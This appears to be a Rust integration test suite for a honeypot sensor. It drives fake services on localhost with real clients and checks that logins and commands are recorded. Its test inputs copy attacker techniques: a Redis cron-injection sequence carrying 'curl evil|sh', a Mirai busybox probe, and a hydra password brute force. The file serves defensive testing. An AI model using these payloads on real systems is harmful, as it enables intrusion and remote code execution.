//! Each service driven by a real client nobody here wrote. A missing client
//! binary skips its test with a message, or fails it when `CI` is set (CI
//! installs them all; see `common::tool`).

use std::time::Duration;

use apiary_sensor::ServiceKind as K;

use crate::common::*;

const T: Duration = Duration::from_secs(20);

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn curl_http_lures_and_flavours() {
    let Some(curl) = tool("curl") else { return };
    let s = TestSensor::start(&[K::Http, K::Elasticsearch, K::Kubernetes, K::Couchdb, K::Clickhouse]).await;
    let base = format!("http://127.0.0.1:{}", s.port(K::Http));

    let o = run(&curl, &["-s", "-i", &format!("{base}/")], T).await;
    assert!(out(&o).contains("It works!"), "{}", out(&o));
    let o = run(
        &curl,
        &["-s", "-o", "/dev/null", "-w", "%{http_code}", "-u", "tomcat:s3cret", &format!("{base}/manager/html")],
        T,
    )
    .await;
    assert_eq!(out(&o), "401");
    let o =
        run(&curl, &["-s", "-d", "log=admin&pwd=hunter2&wp-submit=Log+In", &format!("{base}/wp-login.php")], T).await;
    assert!(out(&o).contains("incorrect"), "{}", out(&o));
    let o = run(&curl, &["-s", "-A", "zgrab/0.x", &format!("{base}/phpmyadmin/index.php?x=1")], T).await;
    assert!(out(&o).contains("phpMyAdmin"));

    let es = run(&curl, &["-s", &format!("http://127.0.0.1:{}/", s.port(K::Elasticsearch))], T).await;
    let v: serde_json::Value = serde_json::from_slice(&es.stdout).unwrap();
    assert_eq!(v["tagline"], "You Know, for Search");
    let k8s = run(&curl, &["-s", &format!("http://127.0.0.1:{}/version", s.port(K::Kubernetes))], T).await;
    assert!(out(&k8s).contains("gitVersion"));
    let k8s = run(&curl, &["-s", &format!("http://127.0.0.1:{}/api/v1/secrets", s.port(K::Kubernetes))], T).await;
    assert!(out(&k8s).contains("system:anonymous"));
    let couch = run(&curl, &["-s", &format!("http://127.0.0.1:{}/", s.port(K::Couchdb))], T).await;
    assert!(out(&couch).contains("\"couchdb\":\"Welcome\""));
    let ch = run(
        &curl,
        &["-s", "--data-binary", "SELECT version()", &format!("http://127.0.0.1:{}/", s.port(K::Clickhouse))],
        T,
    )
    .await;
    assert!(out(&ch).starts_with("23."), "{}", out(&ch));

    let ev = s
        .wait_for("HTTP logins and every flavour's request", |ev| {
            has_login(ev, "HTTP", "tomcat", Some("s3cret"))
                && has_login(ev, "HTTP", "admin", Some("hunter2"))
                && ["Elasticsearch", "Kubernetes", "CouchDB", "ClickHouse"]
                    .iter()
                    .all(|svc| ev.iter().any(|e| e["service"] == *svc && e["event"] == "RX"))
        })
        .await;
    let http = facts(&ev, "HTTP");
    assert!(http
        .iter()
        .any(|f| f["type"] == "http" && f["user_agent"] == "zgrab/0.x" && f["path"] == "/phpmyadmin/index.php?x=1"));
    assert!(ev.iter().any(|e| e["service"] == "HTTP" && e["event"] == "CONNECT"));
    assert!(ev.iter().any(|e| e["service"] == "HTTP" && e["event"] == "RX" && text(e).starts_with("GET / HTTP/1.1")));
    assert!(ev.iter().any(|e| e["service"] == "HTTP" && e["event"] == "TX" && text(e).contains("It works!")));
    for svc in ["Elasticsearch", "Kubernetes", "CouchDB", "ClickHouse"] {
        assert!(ev.iter().any(|e| e["service"] == svc && e["event"] == "RX"), "{svc}");
    }
    assert_valid(&ev);
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn redis_cli() {
    let Some(cli) = tool("redis-cli") else { return };
    let s = TestSensor::start(&[K::Redis]).await;
    let port = s.port(K::Redis).to_string();
    let args = |extra: &[&'static str]| {
        let mut a = vec!["-h", "127.0.0.1", "-p"];
        a.push(Box::leak(port.clone().into_boxed_str()));
        a.extend_from_slice(extra);
        a
    };
    let o = run(&cli, &args(&["PING"]), T).await;
    assert_eq!(out(&o).trim(), "PONG");
    let o = run(&cli, &args(&["INFO", "server"]), T).await;
    assert!(out(&o).contains("redis_version:6.0.16"), "{}", out(&o));
    let o =
        run(&cli, &args(&["-a", "foobared", "--no-auth-warning", "CONFIG", "SET", "dir", "/var/spool/cron"]), T).await;
    assert_eq!(out(&o).trim(), "OK");
    let o = run(&cli, &args(&["CONFIG", "GET", "dbfilename"]), T).await;
    assert!(out(&o).contains("dump.rdb"));
    let o = run(&cli, &args(&["SET", "x", "\n*/1 * * * * curl evil|sh\n"]), T).await;
    assert_eq!(out(&o).trim(), "OK");
    let ev = s
        .wait_for("redis facts", |ev| {
            has_login(ev, "Redis", "default", Some("foobared"))
                && facts(ev, "Redis").iter().any(|f| f["command"] == "CONFIG SET dir /var/spool/cron")
        })
        .await;
    assert_valid(&ev);
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn lftp_ftp_login() {
    let Some(lftp) = tool("lftp") else { return };
    let s = TestSensor::start(&[K::Ftp]).await;
    let script = format!(
        "set net:max-retries 1; set net:timeout 3; set net:reconnect-interval-base 1; open -u anonymous,mozilla@example.com -p {} 127.0.0.1; quote SYST; quote PWD; quit",
        s.port(K::Ftp)
    );
    let o = run(&lftp, &["-c", &script], T).await;
    assert!(out(&o).contains("215 UNIX Type: L8") || out(&o).contains("UNIX"), "{}", out(&o));
    let ev = s.wait_for("ftp login", |ev| has_login(ev, "FTP", "anonymous", Some("mozilla@example.com"))).await;
    assert!(ev
        .iter()
        .any(|e| e["service"] == "FTP" && e["event"] == "TX" && text(e).starts_with("220 (vsFTPd 3.0.3)")));
    assert_valid(&ev);
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn swaks_smtp_auth_and_mail() {
    let Some(swaks) = tool("swaks") else { return };
    let s = TestSensor::start(&[K::Smtp]).await;
    let port = s.port(K::Smtp).to_string();
    for auth in ["LOGIN", "PLAIN"] {
        let o = run(
            &swaks,
            &[
                "--to",
                "victim@example.com",
                "--from",
                "spam@example.net",
                "--server",
                "127.0.0.1",
                "--port",
                &port,
                "--auth",
                auth,
                "--auth-user",
                "info@example.com",
                "--auth-password",
                "Passw0rd!",
                "--timeout",
                "10",
            ],
            T,
        )
        .await;
        assert!(out(&o).contains("250 2.0.0 Ok: queued"), "{}", out(&o));
    }
    let ev = s
        .wait_for("smtp facts", |ev| {
            let f = facts(ev, "SMTP");
            f.iter().filter(|f| f["type"] == "login" && f["password"] == "Passw0rd!").count() == 2
                && f.iter().any(|f| f["type"] == "mail" && f["to"][0] == "<victim@example.com>")
        })
        .await;
    assert_valid(&ev);
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dig_dns_answers_locally() {
    let Some(dig) = tool("dig") else { return };
    let s = TestSensor::start_with(&[K::Dns], |c| {
        if let Some(d) = c.services.get_mut(&K::Dns) {
            d.answer = Some("192.0.2.7".parse().unwrap());
        }
    })
    .await;
    let port = s.port(K::Dns).to_string();
    let o = run(&dig, &["@127.0.0.1", "-p", &port, "+tries=1", "+time=3", "evil.example.com", "A"], T).await;
    assert!(out(&o).contains("192.0.2.7"), "{}", out(&o));
    let o = run(&dig, &["@127.0.0.1", "-p", &port, "+tries=1", "+time=3", "example.org", "MX"], T).await;
    assert!(out(&o).contains("NXDOMAIN"), "{}", out(&o));
    let o = run(&dig, &["@127.0.0.1", "-p", &port, "+tries=1", "+time=3", "version.bind", "TXT", "CH"], T).await;
    assert!(out(&o).contains("9.18"), "{}", out(&o));
    let ev = s
        .wait_for("dns facts", |ev| facts(ev, "DNS.udp").iter().any(|f| f["name"] == "example.org" && f["qtype"] == 15))
        .await;
    assert!(ev.iter().filter(|e| e["service"] == "DNS.udp").all(|e| e["protocol"] == "UDP" && e["event"] != "CONNECT"));
    assert_valid(&ev);
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn memcstat_memcached() {
    let Some(memcstat) = tool("memcstat") else { return };
    let s = TestSensor::start(&[K::Memcached]).await;
    let servers = format!("--servers=127.0.0.1:{}", s.port(K::Memcached));
    let o = run(&memcstat, &[&servers], T).await;
    assert!(out(&o).contains("1.6.21"), "{}", out(&o));
    let ev = s
        .wait_for("memcached stats", |ev| ev.iter().any(|e| e["service"] == "Memcached" && text(e).contains("stats")))
        .await;
    assert_valid(&ev);
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mysql_client_login() {
    let Some(mysql) = tool_any(&["mariadb", "mysql"]) else { return };
    let s = TestSensor::start(&[K::Mysql]).await;
    let port = s.port(K::Mysql).to_string();
    let o = run(&mysql, &["-h", "127.0.0.1", "-P", &port, "-u", "root", "-psecret", "--skip-ssl", "-e", "select 1"], T)
        .await;
    assert!(out(&o).contains("1045") || out(&o).contains("Access denied"), "{}", out(&o));
    let ev = s.wait_for("mysql login", |ev| has_login(ev, "MySQL", "root", None)).await;
    assert_valid(&ev);
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mosquitto_mqtt_login() {
    let Some(pubb) = tool("mosquitto_pub") else { return };
    let s = TestSensor::start(&[K::Mqtt]).await;
    let port = s.port(K::Mqtt).to_string();
    let o = run(
        &pubb,
        &["-h", "127.0.0.1", "-p", &port, "-u", "admin", "-P", "public", "-t", "cmd/run", "-m", "hi", "-q", "1"],
        T,
    )
    .await;
    assert!(o.status.success(), "{}", out(&o));
    let ev = s
        .wait_for("mqtt", |ev| {
            has_login(ev, "MQTT", "admin", Some("public")) && facts(ev, "MQTT").iter().any(|f| f["topic"] == "cmd/run")
        })
        .await;
    assert_valid(&ev);
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hydra_ftp() {
    let Some(hydra) = tool("hydra") else { return };
    // hydra's telnet module loses step with any telnetd that re-prompts on
    // the same connection (it sends an empty login), so Telnet is driven by
    // netcat below and hydra covers FTP.
    let s = TestSensor::start_with(&[K::Ftp], |c| {
        for k in [K::Ftp] {
            if let Some(svc) = c.services.get_mut(&k) {
                svc.accept = vec!["root:letmein".into()];
            }
        }
    })
    .await;
    let words = s.dir.path().join("pw.txt");
    std::fs::write(&words, "123456\nadmin\nletmein\n").unwrap();
    let w = words.to_str().unwrap();
    for (svc, port) in [("ftp", s.port(K::Ftp))] {
        let o = run(
            &hydra,
            &["-I", "-t", "1", "-w", "5", "-l", "root", "-P", w, "-s", &port.to_string(), "127.0.0.1", svc],
            Duration::from_secs(60),
        )
        .await;
        let ev = s.events();
        let log: Vec<String> = ev
            .iter()
            .filter(|e| e["service"].as_str().unwrap().eq_ignore_ascii_case(svc))
            .map(|e| format!("{} {:?}", e["event"], text(e)))
            .collect();
        assert!(out(&o).contains("password: letmein"), "{svc}: {}\n{log:#?}", out(&o));
    }
    let ev = s
        .wait_for("hydra logins", |ev| {
            ["FTP"].iter().all(|svc| ["123456", "admin", "letmein"].iter().all(|p| has_login(ev, svc, "root", Some(p))))
        })
        .await;
    assert_valid(&ev);
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn telnet_shell_records_commands() {
    // netcat as a dumb client: a bot's typical login and busybox probe.
    let Some(nc) = tool("nc") else { return };
    let s = TestSensor::start(&[K::Telnet]).await;
    let port = s.port(K::Telnet).to_string();
    let script = "root\r\nvizxv\r\nenable\r\n/bin/busybox MIRAI\r\nuname -a; cat /proc/cpuinfo\r\nexit\r\n";
    let o = run_stdin(&nc, &["-q", "2", "127.0.0.1", &port], Some(script), T).await;
    let text = out(&o);
    assert!(text.contains("MIRAI: applet not found"), "{text}");
    let ev = s
        .wait_for("telnet commands", |ev| {
            has_login(ev, "Telnet", "root", Some("vizxv"))
                && facts(ev, "Telnet").iter().any(|f| f["command"] == "/bin/busybox MIRAI")
        })
        .await;
    assert_valid(&ev);
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn udp_clients_sip_tftp_ntp() {
    let s = TestSensor::start(&[K::Sip, K::Tftp, K::Ntp, K::EchoUdp]).await;
    if let Some(svmap) = tool_any(&["sipvicious_svmap", "svmap"]) {
        let port = s.port(K::Sip).to_string();
        let o = run(&svmap, &["-p", &port, "127.0.0.1"], T).await;
        assert!(out(&o).contains("Asterisk"), "{}", out(&o));
        s.wait_for("sip", |ev| facts(ev, "SIP.udp").iter().any(|f| f["method"] == "OPTIONS")).await;
    }
    if let Some(tftp) = tool("tftp") {
        let port = s.port(K::Tftp).to_string();
        let dir = s.dir.path().join("tftp");
        std::fs::create_dir_all(&dir).unwrap();
        let o = run_stdin(&tftp, &["127.0.0.1", &port], Some("get bins.sh /dev/null\nquit\n"), T).await;
        assert!(out(&o).contains("File not found"), "{}", out(&o));
        s.wait_for("tftp", |ev| facts(ev, "TFTP.udp").iter().any(|f| f["filename"] == "bins.sh" && f["op"] == "read"))
            .await;
    }
    // NTP: no Debian client takes a port number, so a raw mode-3 request.
    let sock = tokio::net::UdpSocket::bind("127.0.0.1:0").await.unwrap();
    let mut req = [0u8; 48];
    req[0] = 0x23; // v4, client
    req[40..48].copy_from_slice(b"ORIGIN!!");
    sock.send_to(&req, ("127.0.0.1", s.port(K::Ntp))).await.unwrap();
    let mut buf = [0u8; 128];
    let (n, _) = tokio::time::timeout(T, sock.recv_from(&mut buf)).await.unwrap().unwrap();
    assert_eq!(n, 48);
    assert_eq!(buf[0] & 7, 4, "server mode");
    assert_eq!(&buf[24..32], b"ORIGIN!!");
    // monlist (mode 7) is recorded and never answered.
    let mut monlist = [0u8; 48];
    monlist[..4].copy_from_slice(&[0x17, 0x00, 0x03, 0x2a]);
    sock.send_to(&monlist, ("127.0.0.1", s.port(K::Ntp))).await.unwrap();
    assert!(tokio::time::timeout(Duration::from_millis(500), sock.recv_from(&mut buf)).await.is_err());
    s.wait_for("ntp", |ev| facts(ev, "NTP.udp").iter().any(|f| f["mode"] == 7)).await;
    assert_valid(&s.events());
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nmap_names_the_services() {
    let Some(nmap) = tool("nmap") else { return };
    let kinds = [K::Telnet, K::Http, K::Redis, K::Ftp, K::Smtp, K::Memcached, K::Mysql, K::Vnc];
    let s = TestSensor::start(&kinds).await;
    let ports: Vec<String> = kinds.iter().map(|k| s.port(*k).to_string()).collect();
    let o = run(
        &nmap,
        &["-n", "-Pn", "-sV", "--version-light", "-p", &ports.join(","), "127.0.0.1"],
        Duration::from_secs(240),
    )
    .await;
    let report = out(&o);
    for (k, expect) in kinds.iter().zip(["telnet", "http", "redis", "ftp", "smtp", "memcache", "mysql", "vnc"]) {
        let line = report.lines().find(|l| l.starts_with(&format!("{}/tcp", s.port(*k)))).unwrap_or("");
        assert!(line.contains(expect), "nmap did not see {expect} on {k:?}: {line:?}\n{report}");
    }
    assert_valid(&s.events());
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mbpoll_modbus() {
    let Some(mbpoll) = tool("mbpoll") else { return };
    let s = TestSensor::start(&[K::Modbus]).await;
    let port = s.port(K::Modbus).to_string();
    let o = run(&mbpoll, &["-m", "tcp", "-p", &port, "-a", "1", "-r", "1", "-c", "4", "-t", "4", "-1", "127.0.0.1"], T)
        .await;
    assert!(out(&o).contains("[1]:"), "{}", out(&o));
    let ev = s
        .wait_for("modbus", |ev| {
            facts(ev, "Modbus").iter().any(|f| f["command"].as_str().unwrap_or("").contains("function=3"))
        })
        .await;
    assert_valid(&ev);
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn vncsnapshot_vnc_auth() {
    let Some(vnc) = tool("vncsnapshot") else { return };
    let s = TestSensor::start(&[K::Vnc]).await;
    let pw = s.dir.path().join("vncpw");
    // vncsnapshot reads the password from a file in VNC's obfuscated format;
    // any 8 bytes do: the sensor only records the response.
    std::fs::write(&pw, [0x17u8, 0x52, 0x6b, 0x06, 0x23, 0x4e, 0x58, 0x07]).unwrap();
    let shot = s.dir.path().join("shot.jpg");
    let target = format!("127.0.0.1::{}", s.port(K::Vnc));
    let o = run(&vnc, &["-passwd", pw.to_str().unwrap(), &target, shot.to_str().unwrap()], T).await;
    let _ = o; // it fails to authenticate, as it should
    let ev = s
        .wait_for("vnc auth", |ev| {
            facts(ev, "VNC")
                .iter()
                .any(|f| f["type"] == "vnc_auth" && f["response"].as_str().is_some_and(|r| r.len() == 32))
        })
        .await;
    assert!(facts(&ev, "VNC")
        .iter()
        .any(|f| f["type"] == "client" && f["version"].as_str().is_some_and(|v| v.starts_with("RFB 003."))));
    assert_valid(&ev);
    s.stop().await;
}
